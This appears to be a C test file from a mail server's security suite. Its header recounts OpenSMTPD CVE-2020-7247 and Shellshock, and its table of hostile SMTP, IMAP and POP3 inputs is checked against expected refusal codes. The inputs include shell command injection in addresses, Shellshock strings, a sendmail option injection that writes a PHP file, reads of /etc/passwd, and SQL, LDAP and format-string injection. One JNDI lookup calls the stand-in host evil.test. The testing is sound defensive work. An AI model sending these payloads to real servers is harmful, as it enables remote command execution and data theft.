/* shell.c - words of a shell, and of what else reads a line as a program, in addresses.
 *
 * OpenSMTPD, January 2020, CVE-2020-7247: an address whose host was empty was taken whatever its
 * local part held, and that went to a shell of root on its way to the mailbox: one command made a
 * server somebody else's. CVE-2020-8794 a month later: a remote server's many-lined reply did the
 * same through the queue's files. Bash, 2014, CVE-2014-6271: "() { :;};" in anything that a filter
 * put into its environment. Here is no shell, no filter and no file to inject into; what an
 * address may not hold is refused, what it may is a mailbox's name and nothing more.
 */
#include "attacks/attack.h"

#define FROM(path) SAY(EHLO "MAIL FROM:" path "\r\n" QUIT)
#define TO(path)   SAY(EHLO "MAIL FROM:<x@evil.test>\r\nRCPT TO:" path "\r\n" QUIT)
#define NO_SENDER  EHLO_OK LINE("501 5\\.1\\.7") SMTP_BYE
#define NOBODY     OPENED LINE("550 5\\.1\\.1") SMTP_BYE
#define NO_ADDRESS OPENED LINE("501 5\\.1\\.3") SMTP_BYE

/* clang-format off */
static const struct attack attacks[] = {
    { MX, "CVE-2020-7247: a sender without a host", FROM("<;sleep 66;>"),          NO_SENDER },
    { MX, "CVE-2020-7247: the worm's form",     FROM("<;for i in 0 1 2 3;do read r;done;sh;exit 0;>"), NO_SENDER },
    { MX, "CVE-2020-7247: a recipient",         TO("<;for i in 0;do x;done;@a.test>"), NO_ADDRESS },
    { MX, "a pipe",                             TO("<|sh@a.test>"),                NOBODY },
    { MX, "a pipe in quotes",                   TO("<\"|/bin/sh -c x\"@a.test>"),  NOBODY },
    { MX, "a file",                             TO("<\"/etc/passwd\"@a.test>"),    NOBODY },
    { MX, "a file to include",                  TO("<\":include:/etc/passwd\"@a.test>"), NOBODY },
    { MX, "backticks",                          TO("<`id`@a.test>"),               NOBODY },
    { MX, "a dollar and parentheses",           TO("<$(id)@a.test>"),              NO_ADDRESS },
    { MX, "a dollar and braces",                TO("<${IFS}@a.test>"),             NOBODY },
    { MX, "CVE-2014-6271: a function",          FROM("<\"() { :;}; id\"@evil.test>"), EHLO_OK LINE("250 2\\.1\\.0") SMTP_BYE },
    { MX, "CVE-2014-6271: a greeting",          SAY("HELO () { :;}; id\r\n" QUIT), LINE("250") SMTP_BYE },
    { MX, "CVE-2014-6271: a recipient",         TO("<() { :;}; id@a.test>"),       NO_ADDRESS },
    { MX, "an option",                          TO("<-f@a.test>"),                 NOBODY },
    { MX, "an option of a sender, CVE-2016-10033", FROM("<\"x\\\" -oQ/tmp -X/tmp/x.php y\"@evil.test>"), EHLO_OK LINE("250 2\\.1\\.0") SMTP_BYE },
    { MX, "a printf directive",                 TO("<%n%n%n%s@a.test>"),           NOBODY },
    { MX, "a variable of the address",          TO("<%u%d%{user}@a.test>"),        NOBODY },
    { MX, "SQL",                                TO("<\"'; DROP TABLE users;--\"@a.test>"), NOBODY },
    { MX, "LDAP",                               TO("<*)(uid=*))(|(uid=*@a.test>"), NO_ADDRESS },
    { MX, "JNDI",                               TO("<${jndi:ldap://evil.test/a}@a.test>"), NO_ADDRESS },
    { MX, "a path that walks",                  TO("<\"../../etc/passwd\"@a.test>"), NOBODY },
    { MX, "a path behind a plus",               TO("<\"alice+../../x\"@a.test>"),  OPENED LINE("250 2\\.1\\.5") SMTP_BYE },
    { IMAPS, "CVE-2017-2669: a variable as a user", COMMAND("LOGIN \"%{nonexistent}%{user}\" x"), LINE("a NO \\[AUTHENTICATIONFAILED\\]") IMAP_BYE },
    { IMAPS, "SQL as a user",                   COMMAND("LOGIN \"' OR 1=1 --\" x"), LINE("a NO \\[AUTHENTICATIONFAILED\\]") IMAP_BYE },
    { POP3S, "a printf directive as a user", SAY("USER %s%s%n\r\nPASS %n\r\n" QUIT), LINE("\\+OK") POP3_NO POP3_BYE },
};
/* clang-format on */
const struct class shell_class = { "shell", TABLE(attacks), NULL };
